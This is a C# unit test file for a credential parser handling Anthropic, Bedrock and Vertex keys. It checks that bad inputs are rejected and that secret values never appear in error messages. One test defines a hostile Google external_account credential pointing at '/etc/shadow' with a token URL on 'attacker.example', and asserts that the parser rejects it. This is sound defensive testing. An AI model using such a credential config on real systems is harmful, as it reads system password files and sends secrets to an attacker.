using System.Text;
using ClaudeConfig.Api.Projects;
using ClaudeConfig.Operator.Controllers.Projects.Credentials;

namespace ClaudeConfig.Operator.Tests.Projects;

public sealed class CredentialFormTests
{
    private const string Key = """{"type":"service_account","client_email":"a@b","private_key":"-----BEGIN-----\nkey\n"}""";

    [Theory]
    [InlineData(ProviderType.Anthropic, "sk-ant-1", "sk-ant-1")]
    [InlineData(ProviderType.Bedrock, "ABSKkey==", "ABSKkey==")]
    [InlineData(ProviderType.Bedrock, "{\n \"AccessKeyId\": \"A\", \"SecretAccessKey\": \"s/+\" }", """{"AccessKeyId":"A","SecretAccessKey":"s/\u002B"}""")]
    [InlineData(ProviderType.Bedrock, """{"AccessKey":{"AccessKeyId":"A","SecretAccessKey":"s"}}""", """{"AccessKey":{"AccessKeyId":"A","SecretAccessKey":"s"}}""")]
    [InlineData(ProviderType.Vertex, Key, Key)]
    public void Read_WhatTheTypeTakes_TravelsAsPrintableText(ProviderType type, string value, string travels)
    {
        Assert.Equal(travels, Encoding.ASCII.GetString(CredentialForm.Read(type, Encoding.UTF8.GetBytes(value), out var problem)!));
        Assert.Null(problem);
    }

    [Theory]
    [InlineData(ProviderType.Anthropic, "sk ant", "printable ASCII")]
    [InlineData(ProviderType.Anthropic, "{\"a\": 1}", "printable ASCII")]
    [InlineData(ProviderType.Bedrock, "{\"AccessKeyId\":\"geheim\"}", "without AccessKeyId and SecretAccessKey")]
    [InlineData(ProviderType.Bedrock, "{geheim", "neither an API key nor JSON")]
    [InlineData(ProviderType.Vertex, "geheim", "service account's key")]
    [InlineData(ProviderType.Vertex, "{\"type\":\"authorized_user\",\"refresh_token\":\"geheim\"}", "type service_account")]
    [InlineData(ProviderType.Vertex, "[\"geheim\"]", "no JSON object")]
    public void Read_AnythingElse_IsNamedWithoutALetterOfIt(ProviderType type, string value, string says)
    {
        Assert.Null(CredentialForm.Read(type, Encoding.UTF8.GetBytes(value), out var problem));
        Assert.Contains(says, problem, StringComparison.Ordinal);
        Assert.DoesNotContain("geheim", problem, StringComparison.Ordinal);
    }

    [Fact]
    public void Read_TheFileOfAPool_SaysWhereItsValuesGo()
    {
        const string File = """{"type":"external_account","audience":"//iam","credential_source":{"file":"/etc/shadow"},"token_url":"https://attacker.example"}""";
        Assert.Null(CredentialForm.Read(ProviderType.Vertex, Encoding.UTF8.GetBytes(File), out var problem));
        Assert.Contains("credential.workloadIdentity.google", problem, StringComparison.Ordinal);
        Assert.DoesNotContain("attacker", problem, StringComparison.Ordinal);
    }
}
